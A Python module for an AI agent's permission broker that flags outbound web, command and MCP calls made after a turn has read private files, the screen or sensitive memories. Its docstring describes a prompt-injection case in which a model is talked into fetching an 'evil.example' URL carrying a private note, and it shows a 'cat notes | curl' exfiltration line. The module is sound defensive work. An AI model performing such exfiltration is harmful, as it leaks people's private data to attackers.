"""What private data a turn has let in, and which of its calls could carry that data out.

A model that has read a private note and is then shown a hostile page can be talked into
fetching `https://evil.example/?ref=<the note>`: private data, untrusted content and a way out,
all in one turn. A grant for the web given earlier ("this session", "for 15 minutes") was given
for pages, not for whatever the model has read since, so it must not cover such a request.

A turn is *tainted* once a call that lets private data into the model's context has run:
- any file-reading tool (capability file_read: file contents, and file names too — a listing
  of ~/Documents tells as much as a page of it);
- the screen (capability screen_read: a screenshot, the active window's title);
- a remembered fact above "low" sensitivity, recalled into the turn (`note_memory`; anchors,
  the person's standing instructions, carry no sensitivity and do not count);
- a command that could see the person's files: its working folder, a folder it mounts or a
  place it reads lies inside the home, contains it (/, /home), or lies in another home or on a
  drive (/media, /mnt, /srv); its output may hold any of it (with no folder named a command
  runs in an empty scratch folder and counts only for what it names);
- any MCP tool's result (it is the server's data; the tool's class comes from a name the
  server chose, so a "write" tool's result counts too).

From then on, every *outbound* call of the turn — a web tool (web_fetch, web_search), a link
handed to the browser (open_external with a `url:` target), a command that gets a network, an
MCP tool whose server has a network or whose network is not known — is asked anew: the broker
skips every live grant, offers only "once", and takes no standing rule as an answer
(`PermissionBroker.authorize(fresh=...)`). The prompt's reason names what was read; the
request's CallPlan shows the full destination. A call is marked as a source once it ran and
its result (or its error) went back, whatever its status: an error can carry what was read.

The taint lives as long as the turn (its TurnScope): a turn starts from nothing, because no
earlier turn's results are in its context. Once a conversation carries earlier results, it must
carry their taint too.

One call that both reads the home and has a network (`cat notes | curl -d @- host`) is not
asked anew for itself: its prompt already shows the line, the folders it sees and the network.

This module keeps only labels (a path shown escaped, "the screen", a count of facts) and call
ids: never a result's contents. It never asks anyone, never runs a tool and never decides a
grant; the broker and the runner act on what it says.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

from broker.audit.redaction import digest
from tools.escapes import visible, visible_path
from tools.manual import CallPlan, Capability, Prepared, Tool
from tools.paths import is_within
from tools.scopes import MCP_CAPS

SourceKind = Literal["file", "screen", "memory", "command", "mcp"]
# Why a call is asked anew, as the audit and the broker's events name it.
OUTBOUND_AFTER_PRIVATE = "outbound_after_private"
# How many sources a reason names before it says "and N more".
_NAMED = 3
_LABEL_CHARS = 160


@dataclass(frozen=True)
class PrivateSource:
    """One call (or the turn's recall) that let private data into the turn."""

    kind: SourceKind
    # What a person is told: "~/Documents/notes.txt", "the screen", "2 remembered facts …".
    label: str
    call_id: str | None = None


@dataclass(frozen=True)
class OutboundAfterPrivate:
    """Why one outbound call must be asked anew, for the prompt and the audit."""

    # "this turn has read private data (~/Documents/notes.txt); this request could carry it out"
    reason: str
    # Extra fields for the audit's PERMISSION_CHECK line: digests and counts, never contents.
    audit: dict[str, Any]


# (server name) -> True: it has a network, False: it has none, None: not known.
McpNetwork = Callable[[str], bool | None]


def _unknown_network(_server: str) -> bool | None:
    return None


@dataclass
class Egress:
    """Which calls let private data in and which can send data out, by what each will do.

    `home` is the person's home (default: $HOME when asked); `mcp_network` says whether an MCP
    server has a network (the session reads it from the server's settings; unknown: outbound).
    """

    home: Path | None = None
    mcp_network: McpNetwork = _unknown_network

    def _home(self) -> Path:
        return (self.home or Path.home()).resolve()

    def _shown(self, path: str) -> str:
        home = self._home()
        shown = path
        if is_within(Path(path), home):
            rest = Path(path).relative_to(home).as_posix()
            shown = "~" if rest == "." else "~/" + rest
        return _short(visible_path(shown))

    # --- what comes in ---------------------------------------------------------------------

    def private_source(self, tool: Tool, prepared: Prepared, call_id: str) -> PrivateSource | None:
        """What this call let in, once it ran; None when it reads nothing private."""
        cap = tool.capability
        if cap is Capability.FILE_READ:
            paths = _plan(prepared).files or prepared.targets
            shown = ", ".join(self._shown(p) for p in paths[:_NAMED]) or "your files"
            return PrivateSource("file", shown, call_id)
        if cap is Capability.SCREEN_READ:
            return PrivateSource("screen", "the screen", call_id)
        if cap is Capability.SYSTEM_EXECUTE:
            home = self._home()
            # The person's files: in the home, above it (a command given / or /home sees it
            # all), other homes, and drives (/media, /mnt, /srv).
            areas = [home, *(Path(p) for p in _PEOPLES_AREAS)]
            seen = [
                p
                for p in _command_places(prepared)
                if is_within(home, Path(p)) or any(is_within(Path(p), a) for a in areas)
            ]
            if not seen:
                return None
            line = _short(visible(_command_line(prepared) or "a command"))
            return PrivateSource(
                "command",
                f"the output of `{line}`, which could read {self._shown(seen[0])}",
                call_id,
            )
        if cap in MCP_CAPS:
            # Every result: its class comes from a name the server chose.
            server = tool.manual.server or "?"
            label = f"the result of {tool.name} of MCP server {visible(server)!r}"
            return PrivateSource("mcp", _short(label), call_id)
        return None

    # --- what could go out -----------------------------------------------------------------

    def destination(self, tool: Tool, prepared: Prepared) -> str | None:
        """What an outbound call sends where (its URL, command line or MCP arguments, in
        full), or None when the call cannot send anything off this computer."""
        plan = _plan(prepared)
        cap = tool.capability
        if cap is Capability.WEB_ACCESS:
            return plan.url or _arguments(prepared)
        if cap is Capability.OPEN_EXTERNAL:
            urls = [t[len("url:") :] for t in prepared.targets if t.startswith("url:")]
            return plan.url or (urls[0] if urls else None)
        if cap is Capability.SYSTEM_EXECUTE:
            networked = plan.network or plan.network_stages or "net:" in prepared.targets
            return (_command_line(prepared) or _arguments(prepared)) if networked else None
        if cap in MCP_CAPS or tool.manual.source == "mcp":
            server = plan.mcp_server or tool.manual.server or ""
            if self.mcp_network(server) is False:
                return None
            return json.dumps(dict(plan.mcp_arguments) or dict(prepared.arguments), default=str)
        return None


@dataclass
class TurnTaint:
    """The private data one turn has let in so far (one per turn, in its TurnScope)."""

    sources: list[PrivateSource] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock, repr=False, compare=False)

    @property
    def private(self) -> bool:
        return bool(self.sources)

    def note(self, source: PrivateSource | None) -> None:
        if source is None:
            return
        with self._lock:
            if source not in self.sources:
                self.sources.append(source)

    def note_memory(self, sensitivities: Iterable[str]) -> None:
        """The turn's recall: the sensitivity of each fact handed to the model."""
        above_low = sum(1 for s in sensitivities if str(s) != "low")
        if above_low:
            facts = "fact" if above_low == 1 else "facts"
            label = f"{above_low} remembered {facts} marked personal or secret"
            self.note(PrivateSource("memory", label))

    def reason(self) -> str:
        """'this turn has read private data (…); this request could carry it out'."""
        with self._lock:
            labels = list(dict.fromkeys(s.label for s in self.sources))
        named = "; ".join(labels[:_NAMED])
        if len(labels) > _NAMED:
            named += f"; and {len(labels) - _NAMED} more"
        return f"this turn has read private data ({named}); this request could carry it out"

    def outbound(
        self, egress: Egress, tool: Tool, prepared: Prepared
    ) -> OutboundAfterPrivate | None:
        """Why this call must be asked anew, or None (nothing private yet, or not outbound)."""
        if not self.private:
            return None
        destination = egress.destination(tool, prepared)
        if destination is None:
            return None
        with self._lock:
            kinds = sorted({s.kind for s in self.sources})
            calls = [s.call_id for s in self.sources if s.call_id]
        audit: dict[str, Any] = {
            "fresh": OUTBOUND_AFTER_PRIVATE,
            "private_kinds": kinds,
            "private_calls": calls,
            # What leaves, as the audit keeps content: a digest and a length.
            "destination": digest(destination),
        }
        return OutboundAfterPrivate(self.reason(), audit)


def _plan(prepared: Prepared) -> CallPlan:
    return prepared.call_plan if prepared.call_plan is not None else CallPlan()


def _arguments(prepared: Prepared) -> str:
    return json.dumps(dict(prepared.arguments), sort_keys=True, default=str)


def _command_line(prepared: Prepared) -> str:
    """The line as the person knows it (the target's normalised line), else the plan's argv."""
    for target in prepared.targets:
        for kind in ("readonly:", "command:", "code:"):
            if target.startswith(kind):
                return target[len(kind) :].split("\nin ", 1)[0]
    plan = _plan(prepared)
    return " | ".join(" ".join(stage) for stage in plan.stages)


# Where the person's files lie besides their home.
_PEOPLES_AREAS = ("/home", "/media", "/mnt", "/srv")


def _command_places(prepared: Prepared) -> list[str]:
    """Every place of the person's files a command could see: from its CallPlan when the tool
    filled one, else from its targets (`cwd:`, `dir:`)."""
    plan = prepared.call_plan
    places: list[str] = []
    if plan is not None:
        places += [*plan.reads, *plan.writes, *plan.files]
        if plan.cwd:
            places.append(plan.cwd)
    for target in prepared.targets:
        if target.startswith(("cwd:", "dir:")):
            places.append(target.split(":", 1)[1])
    # An empty working folder (`cwd:`) is a scratch folder of the sandbox's own: nothing of
    # the person's. Paths are absolute by the CallPlan's contract; anything else is no place.
    return [p for p in places if p and Path(p).is_absolute()]


def _short(text: str) -> str:
    return text if len(text) <= _LABEL_CHARS else text[: _LABEL_CHARS - 1] + "…"


def mcp_network_of(servers: Mapping[str, object]) -> McpNetwork:
    """Whether each MCP server has a network, from its settings (`servers`: name -> the
    server's settings, tools/mcp/config.py). Only a server Chamberlain starts in its sandbox
    (a `command`, `"sandbox"` not false) without `"network": true` is known to have none: one
    run outside the sandbox has the person's network, one reached at a `url` runs where we
    cannot see, and settings that say nothing about a network are not known to have none."""

    def network(name: str) -> bool | None:
        config = servers.get(name)
        if config is None or getattr(config, "url", None):
            return None
        if getattr(config, "sandbox", True) is False:
            return True
        setting = getattr(config, "network", None)
        if setting is None:
            return None
        if isinstance(setting, bool):
            return setting
        if isinstance(setting, str):
            return setting.strip().lower() not in ("", "none", "off", "false", "no")
        try:
            return bool(len(setting))
        except TypeError:
            return None

    return network
